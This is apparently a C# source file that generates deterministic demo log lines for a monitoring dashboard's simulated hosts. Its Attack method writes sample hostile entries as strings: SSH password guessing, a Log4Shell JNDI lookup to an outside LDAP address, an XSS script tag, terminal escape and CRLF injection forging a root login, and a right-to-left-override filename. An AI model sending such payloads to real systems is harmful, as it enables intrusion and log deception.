using System.Globalization;
using Monitor.Domain.Logs;

namespace Monitor.Web.Dashboard.Demo;

/// <summary>A line that a generated host writes, as its program writes it.</summary>
internal sealed record DemoLogLine(LogSourceKind Kind, string Source, DateTimeOffset At, LogSeverity Severity, string Text);

/// <summary>What the generated hosts write: a pure function of host and time, as their values are, so that the past and what follows live are one log.</summary>
internal static class DemoLogLines
{
    /// <summary>Lines are made for so long at a time.</summary>
    public static readonly TimeSpan Slot = TimeSpan.FromSeconds(15);

    private static readonly string[] Paths = ["/", "/login", "/api/orders", "/api/orders/{0}", "/assets/app.css", "/search?q=printer", "/api/stock/{0}", "/health"];
    private static readonly string[] People = ["anna", "boris", "chen", "deploy", "emma"];
    private static readonly string[] Intruders = ["admin", "root", "oracle", "test", "ubuntu"];

    /// <param name="start">Of a slot.</param>
    /// <param name="now">The moment that faults are measured back from.</param>
    public static IEnumerable<DemoLogLine> Of(DemoHost host, DateTimeOffset start, DateTimeOffset now)
    {
        var dice = new Dice(host.Name, start.ToUnixTimeSeconds());
        return Lines(host, start, now - start, dice).Select((line, i) => line with { At = start.AddMilliseconds(((i * 2741) + dice.Next(1900)) % Slot.TotalMilliseconds) }).OrderBy(l => l.At);
    }

    private static IEnumerable<DemoLogLine> Lines(DemoHost host, DateTimeOffset start, TimeSpan age, Dice dice)
    {
        var odd = DemoEvent.At(host, age) is not null;
        IEnumerable<DemoLogLine> own = host.Group switch
        {
            "Web" => Web(host, start, odd, dice),
            "Databases" => Database(odd, dice),
            _ => Office(host, dice),
        };
        return own.Concat(System(start, dice)).Concat(host.Name == "edge-1" ? Attack(start, dice) : []);
    }

    private static IEnumerable<DemoLogLine> System(DateTimeOffset start, Dice dice)
    {
        if (start is { Minute: 17, Second: 0 })
        {
            yield return Journal("cron.service", LogSeverity.Info, "(root) CMD (   cd / && run-parts --report /etc/cron.hourly)");
        }

        if (dice.Chance(40))
        {
            yield return Journal("ssh.service", LogSeverity.Info, $"Accepted publickey for {dice.Of(People)} from 192.0.2.{dice.Next(250)} port {dice.Next(20000) + 40000} ssh2: ED25519 SHA256:{dice.Hex(12)}");
        }

        if (dice.Chance(160))
        {
            yield return Journal("systemd", LogSeverity.Warning, $"apt-daily.service: Consumed {dice.Next(20)}.{dice.Next(900)}s CPU time.");
        }

        if (dice.Chance(500))
        {
            yield return Journal("kernel", LogSeverity.Warning, string.Create(CultureInfo.InvariantCulture, $"TCP: request_sock_TCP: Possible SYN flooding on port {8000 + dice.Next(90)}. Sending cookies."));
        }
    }

    private static IEnumerable<DemoLogLine> Web(DemoHost host, DateTimeOffset start, bool odd, Dice dice)
    {
        var busy = start.Hour is > 6 and < 20 ? 3 : 1;
        for (var i = 0; i < busy; i++)
        {
            var status = odd && dice.Chance(2) ? 502 : dice.Chance(40) ? 404 : 200;
            yield return File("/var/log/nginx/access.log", status == 502 ? LogSeverity.Error : LogSeverity.Info,
                $"192.0.2.{dice.Next(250)} - - \"GET {string.Format(CultureInfo.InvariantCulture, dice.Of(Paths), dice.Next(9000))} HTTP/1.1\" {status} {dice.Next(48000)} 0.{100 + dice.Next(800)}");
        }

        if (odd && dice.Chance(3))
        {
            yield return Journal("shop.service", LogSeverity.Error, $"upstream timed out after {5000 + dice.Next(900)} ms while calling orders on db-1:5432");
        }

        if (host.Fault == DemoFault.MemoryLeaks && dice.Chance(60))
        {
            yield return Journal("shop.service", LogSeverity.Warning, $"Heap is at {70 + dice.Next(25)} % after collection, generation 2 took {dice.Next(900)} ms");
        }
    }

    private static IEnumerable<DemoLogLine> Database(bool odd, Dice dice)
    {
        if (dice.Chance(4))
        {
            yield return Journal("postgresql.service", LogSeverity.Info, $"checkpoint complete: wrote {dice.Next(4000)} buffers ({dice.Next(30)}.{dice.Next(9)}%); 0 WAL file(s) added, write={dice.Next(270)}.{dice.Next(900)} s");
        }

        if (odd || dice.Chance(90))
        {
            yield return Journal("postgresql.service", LogSeverity.Warning, $"duration: {1000 + dice.Next(9000)}.{dice.Next(900)} ms  statement: SELECT * FROM orders WHERE customer_id = {dice.Next(90000)}");
        }

        if (dice.Chance(700))
        {
            yield return Journal("postgresql.service", LogSeverity.Error, $"deadlock detected: Process {dice.Next(30000)} waits for ShareLock on transaction {dice.Next(900000)}; blocked by process {dice.Next(30000)}.");
        }
    }

    private static IEnumerable<DemoLogLine> Office(DemoHost host, Dice dice)
    {
        if (host.Fault == DemoFault.DiskFills && dice.Chance(30))
        {
            yield return Journal("smbd.service", LogSeverity.Error, $"write of {dice.Next(900)} KB to /srv/files/{dice.Of(People)}/scan-{dice.Next(9000)}.pdf failed: No space left on device");
        }

        if (host.Name == "mail-1" && dice.Chance(3))
        {
            yield return File("/var/log/mail.log", LogSeverity.Info, $"postfix/smtp[{dice.Next(30000)}]: {dice.Hex(5)}: to=<{dice.Of(People)}@example.org>, relay=mx.example.org[203.0.113.9]:25, delay={dice.Next(9)}.{dice.Next(90)}, dsn=2.0.0, status=sent");
        }

        if (dice.Chance(120))
        {
            yield return Journal("systemd-resolved.service", LogSeverity.Notice, $"Using degraded feature set UDP instead of UDP+EDNS0 for DNS server 192.0.2.{dice.Next(250)}.");
        }
    }

    /// <summary>The host that everybody can reach: guesses of passwords, and lines that would deceive whoever reads them.</summary>
    private static IEnumerable<DemoLogLine> Attack(DateTimeOffset start, Dice dice)
    {
        if (start.Minute % 20 < 6)
        {
            yield return File("/var/log/auth.log", LogSeverity.Warning, $"sshd[{dice.Next(30000)}]: Failed password for invalid user {dice.Of(Intruders)} from 203.0.113.{dice.Next(250)} port {dice.Next(20000) + 40000} ssh2");
        }

        if (dice.Chance(25))
        {
            yield return File("/var/log/nginx/access.log", LogSeverity.Info, dice.Next(5) switch
            {
                0 => $"203.0.113.{dice.Next(250)} - - \"GET /?x=${{jndi:ldap://203.0.113.66/a{dice.Next(900)}}} HTTP/1.1\" 404 162",
                1 => $"203.0.113.{dice.Next(250)} - - \"GET /<script>alert({dice.Next(9)})</script> HTTP/1.1\" 404 162",
                2 => $"203.0.113.{dice.Next(250)} - - \"GET / HTTP/1.1\" 200 {dice.Next(900)} \"\u001b[2J\u001b[1;31mroot@edge-1 logged in\u001b[0m\"",
                3 => $"203.0.113.{dice.Next(250)} - - \"GET /a\r\nNov 27 10:00:00 edge-1 sshd[1]: Accepted password for root HTTP/1.1\" 400 0",
                _ => $"203.0.113.{dice.Next(250)} - - \"GET /\u202egpj.exe HTTP/1.1\" 404 162",
            });
        }

        if (dice.Chance(200))
        {
            yield return Journal("shop.service", LogSeverity.Info, $"connecting with user=shop password=Spring{dice.Next(9000)} host=db-1");
        }
    }

    private static DemoLogLine Journal(string source, LogSeverity severity, string text) => new(LogSourceKind.Journal, source, default, severity, text);

    private static DemoLogLine File(string source, LogSeverity severity, string text) => new(LogSourceKind.File, source, default, severity, text);

    /// <summary>The same throws for the same host and time, on every machine.</summary>
    private sealed class Dice(string host, long slot)
    {
        private ulong _state = host.Aggregate(14695981039346656037UL, (hash, c) => (hash ^ c) * 1099511628211UL) ^ ((ulong)slot * 0x9E3779B97F4A7C15UL);

        /// <summary>From 0 on, below the bound.</summary>
        public int Next(int below)
        {
            _state += 0x9E3779B97F4A7C15UL;
            var mixed = (_state ^ (_state >> 30)) * 0xBF58476D1CE4E5B9UL;
            mixed = (mixed ^ (mixed >> 27)) * 0x94D049BB133111EBUL;
            return (int)((mixed ^ (mixed >> 31)) % (ulong)below);
        }

        public bool Chance(int oneIn) => Next(oneIn) == 0;

        public string Of(string[] words) => words[Next(words.Length)];

        public string Hex(int bytes) => string.Concat(Enumerable.Range(0, bytes).Select(_ => Next(256).ToString("X2", CultureInfo.InvariantCulture)));
    }
}
